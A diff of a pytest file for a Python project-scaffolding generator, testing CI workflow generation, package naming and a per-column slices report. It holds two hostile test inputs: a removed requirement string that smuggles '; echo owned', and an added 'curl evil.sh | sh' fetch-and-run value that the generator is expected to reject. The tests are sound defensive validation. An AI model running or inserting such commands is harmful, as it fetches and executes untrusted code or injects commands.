@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import os
 import re
 from pathlib import Path
@@ -9,8 +10,10 @@ from pathlib import Path
 import pytest
 import yaml
 
+from generator.jinja_ext import CANONICAL_REPOSITORY, action_ref, portfolio_action_ref
 from generator.naming import is_valid_package_name, package_name
 from generator.scaffold import render
+from tests.generated import actionlint
 from tests.helpers import AUTHOR, build_tree, git, git_init_commit, run_cli, run_portfolio
 
 
@@ -91,21 +94,49 @@ def test_flags_data_and_answers_file_are_combined(tmp_path: Path):
     assert answers["license"] == "Apache-2.0"  # --data wins over the file
     assert answers["docs_check_in_ci"] is True
     assert "Apache License" in (tmp_path / "p" / "LICENSE").read_text()
-    ci = (tmp_path / "p" / ".github/workflows/ci.yml").read_text()
-    assert "portfolio check . --min-score 80" in ci
-    assert "python -m pip install portfolio-generator\n" in ci
+    ci = yaml.safe_load((tmp_path / "p" / ".github/workflows/ci.yml").read_text())
+    step = next(step for step in ci["jobs"]["test"]["steps"] if step.get("name") == "Documentation completeness")
+    assert step == {"name": "Documentation completeness", "uses": portfolio_action_ref(), "with": {"min-score": "80"}}
+    assert actionlint(tmp_path / "p" / ".github/workflows/ci.yml") == []
 
 
-def test_ci_installs_portfolio_from_the_requirement_given_shell_quoted(tmp_path: Path):
-    requirement = "portfolio @ git+https://example.org/bootcamp/portfolio@v1; echo owned"
+def test_ci_runs_the_check_action_a_bootcamp_pins(tmp_path: Path):
     result = new(
         "regression", str(tmp_path / "p"), "--defaults", "--author", AUTHOR,
-        "--data", "docs_check_in_ci=true", "--data", f"portfolio_requirement={requirement}",
+        "--data", "docs_check_in_ci=true", "--data", "portfolio_action=bootcamp/portfolio@v2.1.0",
     )
     assert result.exit_code == 0, result.output
     ci = yaml.safe_load((tmp_path / "p" / ".github/workflows/ci.yml").read_text())
-    step = next(step for step in ci["jobs"]["test"]["steps"] if step.get("name") == "Documentation completeness")
-    assert step["run"].splitlines()[0] == f"python -m pip install '{requirement}'"
+    steps = [step for step in ci["jobs"]["test"]["steps"] if step.get("name") == "Documentation completeness"]
+    assert [step["uses"] for step in steps] == ["bootcamp/portfolio@v2.1.0"]
+
+
+def test_an_action_reference_that_is_not_owner_repo_at_ref_is_refused(tmp_path: Path):
+    result = new(
+        "regression", str(tmp_path / "p"), "--defaults", "--author", AUTHOR,
+        "--data", "portfolio_action=curl evil.sh | sh",
+    )
+    assert result.exit_code != 0
+    assert "OWNER/REPO@REF" in result.output
+    assert not (tmp_path / "p").exists()
+
+
+@pytest.mark.parametrize(
+    "direct_url, expected",
+    [
+        ({"url": "https://github.com/acme/portfolio.git", "vcs_info": {"vcs": "git", "commit_id": "0a1b2c"}},
+         "acme/portfolio@0a1b2c"),
+        ({"url": "git@github.com:acme/portfolio", "vcs_info": {"vcs": "git", "commit_id": "0a1b2c"}},
+         "acme/portfolio@0a1b2c"),
+        ({"url": "https://gitlab.com/acme/portfolio.git", "vcs_info": {"vcs": "git", "commit_id": "0a1b2c"}},
+         f"{CANONICAL_REPOSITORY}@v1.2.3"),
+        ({"url": "file:///home/ada/portfolio", "dir_info": {"editable": True}}, f"{CANONICAL_REPOSITORY}@v1.2.3"),
+        (None, f"{CANONICAL_REPOSITORY}@v1.2.3"),
+    ],
+    ids=["github-https", "github-ssh", "other-host", "local-folder", "index"],
+)
+def test_the_check_action_defaults_to_where_portfolio_came_from(direct_url, expected):
+    assert action_ref(direct_url, "1.2.3") == expected
 
 
 def test_ci_has_no_documentation_step_unless_asked(tmp_path: Path):
@@ -141,7 +172,7 @@ def test_licence_none_means_no_licence_file(tmp_path: Path):
         ("2024 Sales Forecast", "p_2024_sales_forecast"),
         ("class", "class_project"),
         ("import", "import_project"),
-        ("日本語", "project"),
+        ("日本語", "ri_ben_yu"),  # transliterated (text-unidecode), as repository names are
         ("  spaced   out  ", "spaced_out"),
         ("sklearn", "sklearn_project"),
     ],
@@ -174,10 +205,7 @@ def test_template_syntax_in_answers_stays_literal(tmp_path: Path):
     import tomllib
 
     assert tomllib.loads(pyproject)["project"]["description"] == description
-    init = next((tmp_path / "p" / "src").glob("*/__init__.py"))
-    namespace: dict = {}
-    exec(compile(init.read_text(), str(init), "exec"), namespace)
-    assert namespace["PROJECT_NAME"] == name
+    assert f"# Model card: {name}" in (tmp_path / "p" / "docs" / "model_card.md").read_text()
 
 
 @pytest.mark.slow
@@ -212,6 +240,19 @@ def test_own_csv_is_copied_wired_in_and_trains(tmp_path: Path):
     )
     assert run.returncode == 0, run.stderr
     assert (project / "reports/metrics.json").is_file()
+    # No slices until the learner names columns; then the worst slice of them is reported.
+    assert "under `[slices]` in `params.toml`" in (project / "README.md").read_text()
+    assert not (project / "reports/slices.json").exists()
+    params = (project / "params.toml").read_text()
+    (project / "params.toml").write_text(params.replace("columns = []", 'columns = ["plan", "age"]'))
+    again = subprocess.run([sys.executable, "-m", f"{package}.train"], cwd=project, env=env,
+                           capture_output=True, text=True, timeout=300)
+    assert again.returncode == 0, again.stderr
+    slices = json.loads((project / "reports/slices.json").read_text())
+    assert {item["column"] for item in slices["slices"]} == {"plan", "age"}
+    assert {"basic", "pro"} <= {item["slice"] for item in slices["slices"]}
+    worst = slices["worst"]
+    assert f"`{worst['column']}` = {worst['slice']}" in (project / "README.md").read_text()
 
 
 # --- bad input: one line, non-zero exit, nothing created or changed ---------------------------
